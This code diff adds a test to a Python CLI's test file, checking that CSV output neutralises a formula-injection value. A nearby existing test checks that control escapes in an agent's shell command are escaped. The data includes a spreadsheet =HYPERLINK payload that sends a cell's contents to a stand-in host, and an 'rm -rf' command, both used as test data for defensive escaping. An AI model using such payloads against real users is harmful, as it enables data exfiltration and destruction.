@@ -393,3 +393,11 @@ def test_timeline_lines_escape_the_agents_text() -> None:
     action = ActionRecord("agents", "cmd-1", "shell_command", "printf '\x1b[2K'\nrm -rf x", 1.0, 2.0)
     for line in (cli_query._attempt_line(made, False, ()), cli_query._action_line(action)):
         assert line.isprintable(), line
+
+
+def test_a_csv_cell_that_is_a_formula_is_quoted() -> None:
+    """Red team 14: an SNI ``=HYPERLINK(...)`` was a formula in `egress events -o csv`."""
+    made = record(host='=hyperlink("http://x.example/"&a1,"ok")')
+    out = io.StringIO()
+    RecordPrinter("csv", ("host", "sandbox"), out, colour=False, width=None).write([made])
+    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ['\'=hyperlink("http://x.example/"&a1,"ok")', "agents"]
